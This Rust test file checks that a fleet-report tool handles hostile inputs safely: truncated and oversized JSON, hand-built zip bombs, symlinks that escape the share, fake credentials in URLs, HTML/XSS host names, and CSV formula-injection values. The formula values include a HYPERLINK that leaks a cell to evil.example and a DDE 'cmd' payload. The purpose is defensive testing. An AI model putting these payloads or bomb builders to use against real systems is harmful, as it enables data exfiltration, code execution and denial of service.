//! `condafix report` on what a share can hold besides good documents: a half-written file, a
//! 1 GiB file, a value of 40 MiB, zip bombs (one that says it is 2 GiB, one that says 64 KiB
//! and is 2 GiB, one inside another), an Intune CSV with formulas for host names, a host name
//! that is HTML, credentials in a prefix, and links. Each gives its note; the page escapes
//! everything, the CSV neutralises formulas, no credential is printed, no link is followed,
//! and the run stays under 64 MiB (Linux: the children's peak resident set, from `getrusage`; the
//! only test in this binary, so the only children are these runs).

mod common;

use std::io::Write as _;
use std::path::Path;

use common::fleet::{self as gen, report};
use common::{run, TestContext};
use condafix_fixtures::fleet::{self, Vintage};

const MIB: u64 = 1 << 20;

/// A raw deflate stream of `mib` MiB of spaces, made by repeating one sync-flushed chunk (so
/// the test writes megabytes, not gigabytes).
fn deflated_spaces(mib: u64) -> Vec<u8> {
    use flate2::{Compress, Compression, FlushCompress};
    // A stored block holding `[`, so the member looks like the start of a JSON array.
    let mut out = Vec::with_capacity(64);
    Compress::new(Compression::none(), false)
        .compress_vec(b"[", &mut out, FlushCompress::Sync)
        .unwrap();
    let mut c = Compress::new(Compression::best(), false);
    let input = vec![b' '; MIB as usize];
    let mut chunk = Vec::with_capacity(64 * 1024);
    c.compress_vec(&input, &mut chunk, FlushCompress::Sync)
        .unwrap();
    assert_eq!(c.total_in(), MIB, "one call takes the whole MiB");
    out.reserve(chunk.len() * mib as usize + 2);
    for _ in 0..mib {
        out.extend_from_slice(&chunk);
    }
    out.extend_from_slice(&[0x03, 0x00]); // the final, empty block
    out
}

/// A zip with one deflated member, its sizes as `declared` says (built by hand: the point is
/// an archive that lies).
fn zip_by_hand(name: &str, data: &[u8], declared: u32) -> Vec<u8> {
    let mut z = Vec::new();
    let n = name.len() as u16;
    let c = data.len() as u32;
    z.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
    z.extend_from_slice(&[20, 0, 0, 0, 8, 0, 0, 0, 0, 0]);
    z.extend_from_slice(&0u32.to_le_bytes()); // CRC: never reached
    z.extend_from_slice(&c.to_le_bytes());
    z.extend_from_slice(&declared.to_le_bytes());
    z.extend_from_slice(&n.to_le_bytes());
    z.extend_from_slice(&0u16.to_le_bytes());
    z.extend_from_slice(name.as_bytes());
    z.extend_from_slice(data);
    let cd = z.len() as u32;
    z.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
    z.extend_from_slice(&[20, 0, 20, 0, 0, 0, 8, 0, 0, 0, 0, 0]);
    z.extend_from_slice(&0u32.to_le_bytes());
    z.extend_from_slice(&c.to_le_bytes());
    z.extend_from_slice(&declared.to_le_bytes());
    z.extend_from_slice(&n.to_le_bytes());
    z.extend_from_slice(&[0u8; 12]); // extra, comment, disk, internal and external attributes
    z.extend_from_slice(&0u32.to_le_bytes()); // the local header's offset
    z.extend_from_slice(name.as_bytes());
    let cd_len = z.len() as u32 - cd;
    z.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    z.extend_from_slice(&[0, 0, 0, 0, 1, 0, 1, 0]);
    z.extend_from_slice(&cd_len.to_le_bytes());
    z.extend_from_slice(&cd.to_le_bytes());
    z.extend_from_slice(&0u16.to_le_bytes());
    z
}

fn note_for<'a>(v: &'a serde_json::Value, file_ends: &str) -> Option<&'a serde_json::Value> {
    v["notes"].as_array().unwrap().iter().find(|n| {
        n["file"]
            .as_str()
            .unwrap()
            .replace('\\', "/")
            .ends_with(file_ends)
    })
}

fn write(path: &Path, bytes: impl AsRef<[u8]>) {
    fs_err::create_dir_all(path.parent().unwrap()).unwrap();
    fs_err::write(path, bytes).unwrap();
}

#[test]
fn hostile_inputs_each_get_a_note_escaped_neutralised_redacted_output_and_bounded_memory() {
    let ctx = TestContext::new();
    let share = ctx.path().join("share");
    let good = gen::devices(4, 59, 21);
    gen::write_post_install(&share, &good, Vintage::Current);

    // A half-written document.
    let whole = fleet::post_install_document(&good[0], Vintage::Current).to_string();
    write(&share.join("truncated.json"), &whole[..whole.len() * 2 / 3]);
    // 1 GiB of nothing (sparse), named like a report.
    let big = fs_err::File::create(share.join("huge-20250301T000000Z.json")).unwrap();
    big.set_len(1 << 30).unwrap();
    drop(big);
    // One value of 40 MiB.
    let mut f = fs_err::File::create(share.join("one-big-value.json")).unwrap();
    f.write_all(b"{\"schema_version\": 2, \"host\": \"")
        .unwrap();
    f.write_all(&vec![b'A'; 40 * MIB as usize]).unwrap();
    f.write_all(b"\"}").unwrap();
    drop(f);
    // Zip bombs: one honest about its 2 GiB, one that says 64 KiB, one inside another.
    let spaces = deflated_spaces(2047);
    write(
        &share.join("bomb-honest.zip"),
        zip_by_hand("reports.json", &spaces, (2047 * MIB) as u32),
    );
    write(
        &share.join("bomb-lying.zip"),
        zip_by_hand("reports.json", &spaces, 64 * 1024),
    );
    let inner = zip_by_hand("reports.json", &spaces, (2047 * MIB) as u32);
    let mut outer =
        zip::ZipWriter::new(fs_err::File::create(share.join("bomb-nested.zip")).unwrap());
    outer
        .start_file("inner.zip", zip::write::SimpleFileOptions::default())
        .unwrap();
    outer.write_all(&inner).unwrap();
    outer.finish().unwrap();
    // An Intune export whose device names are formulas.
    let mut evil = gen::devices(4, 59, 22);
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
    ];
    for (n, (d, f)) in evil.iter_mut().zip(formulas).enumerate() {
        d.host = f.to_string();
        // Not heard from for weeks: every one of them is listed (as stale).
        d.time = fleet::time_at(10, n as u64);
    }
    write(&share.join("DeviceStatus.csv"), fleet::intune_csv(&evil));
    // A host name that is markup, a code that is markup, and a password in a prefix.
    let mut html = gen::devices(1, 59, 23);
    html[0].host = "<script>alert(1)</script><img src=x onerror=alert(2)>".into();
    html[0].installs[0].outcome = fleet::Outcome::StillBroken;
    html[0].installs[0].prefix =
        "C:\\Users\\x\\https://bob:hunter2@proxy.example\\anaconda3".into();
    html[0].installs[0].after = vec![fleet::Finding {
        code: "<b onmouseover=alert(3)>D010</b>".into(),
        severity: "error",
        fix: Some("see https://alice:s3cret@proxy.example:8080 for help".into()),
    }];
    let doc = fleet::post_install_document(&html[0], Vintage::Current);
    write(&share.join("html-host.json"), doc.to_string());
    // Links: one to a document outside the share, one to a folder of them.
    let outside = ctx.path().join("outside");
    let mut secret = gen::devices(1, 59, 24);
    secret[0].host = "MUST-NOT-BE-READ".into();
    gen::write_post_install(&outside, &secret, Vintage::Current);
    #[cfg(unix)]
    {
        let target = outside.join(gen::file_name(&secret[0]));
        std::os::unix::fs::symlink(&target, share.join("linked.json")).unwrap();
        std::os::unix::fs::symlink(&outside, share.join("linked-folder")).unwrap();
    }

    let out = ctx.path().join("out");
    let (page, csv, events) = (
        out.join("fleet.html"),
        out.join("fleet.csv"),
        out.join("fleet.ndjson"),
    );
    let r = run(report(
        &ctx,
        &[
            share.to_str().unwrap(),
            "--json",
            "-o",
            page.to_str().unwrap(),
            "--csv",
            csv.to_str().unwrap(),
            "--ndjson",
            events.to_str().unwrap(),
        ],
    ));
    assert!(r.code <= 1, "{}\n{}", r.code, r.stderr);
    let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();

    // Each hostile input has its note, and the good ones are all there.
    let expect = [
        ("truncated.json", "invalid-json"),
        ("huge-20250301T000000Z.json", "binary"),
        ("one-big-value.json", "too-large"),
        ("bomb-honest.zip!reports.json", "zip-bomb"),
        ("bomb-lying.zip!reports.json", "zip-bomb"),
        ("bomb-nested.zip!inner.zip", "nested-archive"),
    ];
    for (file, kind) in expect {
        let n = note_for(&v, file).unwrap_or_else(|| panic!("no note for {file}: {}", v["notes"]));
        assert_eq!(n["kind"], kind, "{file}: {n}");
        assert!(!n["problem"].as_str().unwrap().is_empty());
    }
    #[cfg(unix)]
    {
        assert_eq!(note_for(&v, "linked.json").unwrap()["kind"], "link");
        assert_eq!(note_for(&v, "linked-folder").unwrap()["kind"], "link");
    }
    let everything = format!(
        "{}{}{}{}",
        r.stdout,
        fs_err::read_to_string(&page).unwrap(),
        fs_err::read_to_string(&csv).unwrap(),
        fs_err::read_to_string(&events).unwrap()
    );
    assert!(
        !everything.contains("MUST-NOT-BE-READ"),
        "a link was followed"
    );
    assert_eq!(v["inputs"]["devices"], 4 + 4 + 1);

    // No credential anywhere.
    for secret in ["hunter2", "s3cret"] {
        assert!(!everything.contains(secret), "{secret} was printed");
        assert!(!r.stderr.contains(secret), "{secret} was printed");
    }
    assert!(
        everything.contains("bob:****@proxy.example"),
        "the prefix is kept, redacted"
    );

    // The page: markup from the inputs is text.
    let page = fs_err::read_to_string(&page).unwrap();
    for raw in ["<script", "<img", "<b onmouseover", "onerror=alert(2)>"] {
        assert!(!page.contains(raw), "{raw} reached the page as markup");
    }
    assert!(
        page.contains("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;")
    );
    assert!(page.contains("&lt;b onmouseover=alert(3)&gt;D010&lt;/b&gt;"));

    // The CSV: every formula is text.
    let text = fs_err::read_to_string(&csv).unwrap();
    let mut rdr = csv::Reader::from_reader(text.as_bytes());
    let cells: Vec<String> = rdr
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    for f in formulas {
        assert!(
            cells.iter().any(|c| *c == format!("'{f}")),
            "{f} is not neutralised"
        );
        assert!(!cells.iter().any(|c| c == f), "{f} is a live cell");
    }
    assert!(
        cells.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])),
        "a cell starts with a formula character"
    );

    #[cfg(target_os = "linux")]
    {
        let peak = common::children_peak_rss();
        eprintln!("largest resident set of the report run: {} MiB", peak >> 20);
        assert!(peak < 64 * MIB, "the report run used {} MiB", peak >> 20);
    }
}
